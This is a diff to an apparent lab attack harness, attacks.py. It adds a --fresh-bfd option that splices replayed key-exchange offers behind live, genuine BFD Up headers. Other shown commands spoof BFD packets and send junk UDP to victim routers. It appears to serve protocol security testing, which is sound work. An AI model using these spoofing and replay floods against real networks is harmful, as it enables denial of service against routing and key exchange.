@@ -31,9 +31,11 @@ sniffs ra-wan, and the other way round for router-b. The script enters the names
   attacks.py bfd-minrx0 / bfd-demand [--victim a] [--seconds 6] [--rate 2]
                                            spoofed Up with Required Min RX Interval 0 / with
                                            the Demand bit, copied discriminators
-  attacks.py flood-offers FILE RATE SECONDS [--victim b]
+  attacks.py flood-offers FILE RATE SECONDS [--victim b] [--fresh-bfd]
                                            captured genuine clear offers (Hello blocks),
                                            replayed round robin at RATE packets/s
+                                           (--fresh-bfd: behind a live BFD Up header, so
+                                           that only the key exchange is hit)
   attacks.py junk-wayports [--victim b] [--count 20] [--save FILE]
                                            junk UDP from the peer's waypoint to unused
                                            wayports; --save keeps the victim's answers (Enable
@@ -548,6 +550,22 @@ def cmd_flood_offers(a):
     if not frames:
         out("flood-offers", victim=a.victim, candidates=0, sent=0)
         sys.exit(2)
+    if a.fresh_bfd:
+        # Splice each captured block behind a live, genuine BFD header (Up, current
+        # discriminators): BFD itself is left alone, only the key exchange sees the offer.
+        live = {}
+        for fam in (4, 6):
+            fr, p = genuine_bfd(wan, a.victim, fam)
+            if fr is not None:
+                live[is6(p["src"])] = p["payload"][:24]
+        spliced = []
+        for fr in frames:
+            p = parse(fr)
+            hdr = live.get(is6(p["src"]))
+            if hdr is not None:
+                blk = p["payload"][bfd_fields(p["payload"])["len"]:]
+                spliced.append(eth(fr[:6], fr[6:12], udp_ip(p["src"], p["dst"], p["sport"], BFD_PORT, hdr + blk)))
+        frames = spliced or frames
     tick = pace(a.rate)
     end = time.monotonic() + a.seconds
     sent = 0
@@ -626,7 +644,7 @@ def main():
         c.set_defaults(fn=fn)
     c = sp.add_parser("flood-offers"); c.add_argument("file"); c.add_argument("rate", type=float)
     c.add_argument("seconds", type=float); c.add_argument("--victim", default="b", choices="ab")
-    c.set_defaults(fn=cmd_flood_offers)
+    c.add_argument("--fresh-bfd", action="store_true"); c.set_defaults(fn=cmd_flood_offers)
     c = sp.add_parser("junk-wayports"); c.add_argument("--victim", default="b", choices="ab")
     c.add_argument("--count", type=int, default=20); c.add_argument("--save")
     c.set_defaults(fn=cmd_junk_wayports)
